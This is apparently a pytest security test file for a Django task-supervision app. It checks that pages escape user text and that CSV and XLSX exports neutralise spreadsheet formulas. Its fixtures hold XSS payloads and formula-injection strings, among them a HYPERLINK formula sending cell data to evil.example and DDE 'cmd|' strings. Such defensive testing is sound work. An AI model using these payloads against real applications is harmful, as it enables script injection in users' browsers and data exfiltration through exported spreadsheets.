"""User-written and imported text is data everywhere: pages escape it, exports defuse formulas."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from org.models import Department
from plans.models import Plan
from tasks.models import ProgressReport, Task
from tests.downloads import body

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('督办')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
RAW = ("<script>alert", "<img src=x", "onerror=alert(1)>")


@pytest.fixture
def hostile(world, personas):
    """Task, plan, department and report text carrying scripts, markup and formulas."""
    Task.objects.filter(pk=world.task_b.pk).update(title=FORMULAS[0] + SCRIPT, description=IMG)
    Task.objects.filter(pk=world.task_a.pk).update(title=SCRIPT + "校舍改造", description=FORMULAS[1])
    Plan.objects.filter(pk=world.plan_a.pk).update(title=IMG + FORMULAS[2], doc_number=FORMULAS[3])
    Department.objects.filter(pk=personas.dept_b.pk).update(name=FORMULAS[4] + SCRIPT, short_name=FORMULAS[5])
    ProgressReport.objects.filter(pk=world.report_a.pk).update(text=SCRIPT + IMG)
    return world


def _assert_escaped(html: str, where: str):
    for raw in RAW:
        assert raw not in html, f"{where}: {raw!r} unescaped"


def _defused(cells, where):
    bad = [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not bad, f"{where}: cells a spreadsheet would run: {bad}"


PAGES = [
    ("tasks:detail", lambda w: {"pk": w.task_a.pk}),
    ("tasks:detail", lambda w: {"pk": w.task_b.pk}),
    ("plans:detail", lambda w: {"pk": w.plan_a.pk}),
    ("plans:list", lambda w: {}),
    ("supervision:board", lambda w: {}),
    ("supervision:report", lambda w: {}),
    ("home", lambda w: {}),
    ("notifications:task_log", lambda w: {"task_pk": w.task_a.pk}),
    ("org:registry", lambda w: {}),
]


@pytest.mark.parametrize(("route", "kwargs"), PAGES, ids=[f"{r}-{i}" for i, (r, _) in enumerate(PAGES)])
def test_pages_show_hostile_text_escaped(route, kwargs, hostile, client, personas, today):
    client.force_login(personas.supervisor)
    response = client.get(reverse(route, kwargs=kwargs(hostile)))
    assert response.status_code == 200, response.status_code
    _assert_escaped(response.content.decode(), route)


def test_imported_text_is_escaped_in_the_preview(client, personas, directory):
    from plans.services import plan_import_preview

    text = (
        f"关于印发《{SCRIPT}实施方案》的通知\n一、总体要求\n(一){IMG}完善制度。"
        f"(责任单位:市教育局)\n(二){FORMULAS[0]}。(责任单位:市财政局)\n"
    )
    plan_import = plan_import_preview(data=text, user=personas.supervisor)
    client.force_login(personas.supervisor)
    response = client.get(reverse("plans:import_preview", kwargs={"pk": plan_import.pk}))
    assert response.status_code == 200
    _assert_escaped(response.content.decode(), "import preview")


def test_api_json_carries_text_verbatim_for_clients_to_escape(hostile, api):
    body = api("supervisor").get(reverse("task-detail", kwargs={"pk": hostile.task_a.pk})).json()
    assert body["title"] == SCRIPT + "校舍改造"  # JSON is data: stored as typed, never HTML in a browser page
    response = api("supervisor").get(reverse("task-detail", kwargs={"pk": hostile.task_a.pk}))
    assert response["Content-Type"].startswith("application/json")


def _csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def test_supervision_report_csv_defuses_formulas(hostile, api, client, personas, today):
    response = api("supervisor").get(reverse("report-supervision"), {"format": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(body(response))
    assert any("HYPERLINK" in c for c in cells) and any("cmd|" in c for c in cells)
    _defused(cells, "API CSV")

    client.force_login(personas.supervisor)
    page = client.get(reverse("supervision:report"), {"format": "csv"})
    assert page.status_code == 200
    _defused(_csv_cells(body(page)), "page CSV")


def test_supervision_report_xlsx_defuses_formulas(hostile, client, personas, today):
    client.force_login(personas.supervisor)
    response = client.get(reverse("supervision:report"), {"format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(body(response)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(c.value) for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the workbook"
    _defused([c.value for c in cells], "XLSX")


def test_report_assignments_defuse_formulas(hostile, api, client, personas, today):
    response = api("supervisor").get(reverse("report-supervision-assignments"))
    assert response.status_code == 200
    cells = _csv_cells(body(response))
    assert any("HYPERLINK" in c for c in cells) and any("@SUM" in c for c in cells) and "'-2+3" in cells
    _defused(cells, "明细 CSV")

    client.force_login(personas.supervisor)
    response = client.get(reverse("supervision:report_assignments"), {"format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(body(response)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(c.value) for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the workbook"
    _defused([c.value for c in cells], "明细 XLSX")


def test_task_history_csv_defuses_formulas(hostile, api):
    task = Task.objects.get(pk=hostile.task_b.pk)
    task.title = FORMULAS[2]
    task.save()  # a change with history rows carrying formula text before and after
    response = api("supervisor").get(reverse("task-history", kwargs={"pk": task.pk}), {"format": "csv"})
    _defused(_csv_cells(response.content), "history CSV")
